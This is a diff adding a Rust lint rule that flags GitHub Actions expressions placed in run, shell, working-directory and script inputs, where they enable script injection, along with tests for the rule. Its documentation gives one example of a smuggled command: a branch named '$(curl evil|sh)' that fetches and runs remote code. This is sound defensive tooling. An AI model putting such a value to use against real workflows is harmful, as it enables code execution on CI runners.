@@ -1,0 +1,128 @@
+//! `run-no-expression`.
+
+use crate::action::Catalogue;
+use crate::check::{Check, Group, Rule, WorkflowFile};
+use crate::diagnostic::{Diagnostics, Path, Place, Severity};
+use crate::workflow::Defaults;
+
+pub(super) static RULE: Rule = Rule {
+    code: "run-no-expression",
+    group: Group::Injection,
+    severity: Severity::Error,
+    summary: "no expression stands in anything that is run as code",
+    documentation: "\
+## What it does
+Refuses `${{` in `run:`, `shell:`, `working-directory:`, in their defaults, and in the inputs of actions
+that are run as code (`script` of `actions/github-script`).
+
+## Why
+GitHub puts the value into the text before the shell reads it. A branch called `$(curl evil|sh)` is then a
+command. Values in the environment are data.
+
+## Example
+```yaml
+- run: echo \"${{ github.head_ref }}\"
+```
+
+## Instead
+```yaml
+- run: echo \"$HEAD_REF\"
+  env:
+    HEAD_REF: ${{ github.head_ref }}
+```
+",
+    check: Check::Workflow(check),
+};
+
+fn check(file: &WorkflowFile<'_>, findings: &mut Diagnostics) {
+    let mut judge = |path: Path, text: &str| {
+        for (start, _) in text.match_indices("${{") {
+            let length = text[start..].find("}}").map_or(text.len() - start, |close| close + 2);
+            let place = Place::within(path.clone(), start..start + length);
+            let message = "an expression here becomes code before anything can quote it";
+            let help = "pass the value through `env:` and read it as a variable";
+            findings.push(RULE.finding(place, message).with_help(help));
+        }
+    };
+    let mut judge_defaults = |owner: &Path, defaults: Option<&Defaults>| {
+        let Some(defaults) = defaults else { return };
+        let run = owner.key("defaults").key("run");
+        for (key, text) in
+            [("shell", &defaults.run.shell), ("working-directory", &defaults.run.working_directory)]
+        {
+            judge(run.key(key), text.as_deref().unwrap_or_default());
+        }
+    };
+    judge_defaults(&Path::root(), file.workflow.defaults.as_ref());
+    for (place, _, job) in file.workflow.jobs_at() {
+        judge_defaults(&place, job.defaults.as_ref());
+    }
+    for (place, step) in file.workflow.steps_at() {
+        for (key, text) in
+            [("run", &step.run), ("shell", &step.shell), ("working-directory", &step.working_directory)]
+        {
+            judge(place.key(key), text.as_deref().unwrap_or_default());
+        }
+        let slug = step.uses.as_ref().and_then(|uses| uses.slug()).unwrap_or_default();
+        let code = Catalogue::get().code_inputs(&slug);
+        for (name, text) in &step.with {
+            if code.iter().any(|own| own.eq_ignore_ascii_case(name)) {
+                judge(place.key("with").key(name), text);
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::RULE;
+    use crate::check::fixture;
+
+    #[test]
+    fn scripts_shells_folders_and_code_inputs() {
+        fixture::check(
+            &RULE,
+            "
+on: push
+defaults:
+  run:
+    shell: ${{ vars.SHELL }}
+#          ^^^^^^^^^^^^^^^^^ error[run-no-expression]: becomes code
+jobs:
+  a:
+    steps:
+      - run: |
+          echo safe
+          echo ${{ github.sha }} and ${{ inputs.x }}
+#              ^^^^^^^^^^^^^^^^^ error[run-no-expression]: becomes code
+#                                    ^^^^^^^^^^^^^^^ error[run-no-expression]: becomes code
+      - run: a
+        working-directory: x/${{ matrix.dir }}
+#                            ^^^^^^^^^^^^^^^^^ error[run-no-expression]: becomes code
+      - uses: actions/github-script@v8
+        with:
+          script: core.info('${{ github.ref }}')
+#                            ^^^^^^^^^^^^^^^^^ error[run-no-expression]: becomes code
+",
+        );
+    }
+
+    #[test]
+    fn data_positions_pass() {
+        fixture::check(
+            &RULE,
+            "
+on: push
+jobs:
+  a:
+    steps:
+      - run: echo \"$X\" '$ {{ no }}'
+        env: {X: '${{ github.head_ref }}'}
+      - uses: actions/github-script@v8
+        with: {github-token: '${{ github.token }}'}
+      - uses: actions/checkout@v7
+        with: {ref: '${{ inputs.ref }}'}
+",
+        );
+    }
+}
